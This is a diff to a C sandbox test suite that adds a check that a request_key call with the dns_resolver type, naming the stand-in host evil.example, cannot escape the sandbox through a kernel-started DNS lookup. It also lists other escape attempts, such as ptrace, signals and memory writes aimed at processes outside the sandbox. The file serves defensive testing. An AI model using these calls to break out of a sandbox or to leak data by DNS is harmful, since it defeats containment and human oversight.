@@ -141,6 +141,12 @@ static void bpf_map(void)
 	escaped(syscall(SYS_bpf, 0, &attr, sizeof(attr)) >= 0);
 }
 
+/* The kernel starts /sbin/request-key, outside, which may ask a name server for evil.example. */
+static void name_looked_up_by_the_kernels_keys(void)
+{
+	escaped(syscall(SYS_request_key, "dns_resolver", "evil.example", "", -3 /* the session's keyring */) >= 0 || (errno != EPERM && errno != ENOSYS));
+}
+
 static void ptrace_outside(void) { escaped(ptrace(PTRACE_SEIZE, outside(), NULL, NULL) == 0); }
 static void signal_outside(void) { escaped(kill(outside(), SIGCONT) == 0); }
 
@@ -236,6 +242,7 @@ static const struct attempt attempts[] = {
 	ROW(dccp_socket), ROW(udplite_socket), ROW(smc_socket), ROW(tipc_socket), ROW(xdp_socket), ROW(kernel_crypto_socket),
 	ROW(netfilter_netlink_socket), ROW(ip_source_route_option), ROW(ip_option_with_high_bits_in_the_level),
 	ROW(routing_header_option), ROW(routing_header_in_ancillary_data), ROW(tcp_repair), ROW(terminal_input), ROW(bpf_map),
+	ROW(name_looked_up_by_the_kernels_keys),
 	ROW(ptrace_outside), ROW(signal_outside), ROW(write_memory_outside), ROW(open_memory_outside),
 	ROW(take_a_socket_from_outside), ROW(unix_socket_outside), ROW(abstract_socket_outside), ROW(unix_socket_outside_by_a_link),
 	ROW(second_supervisor),
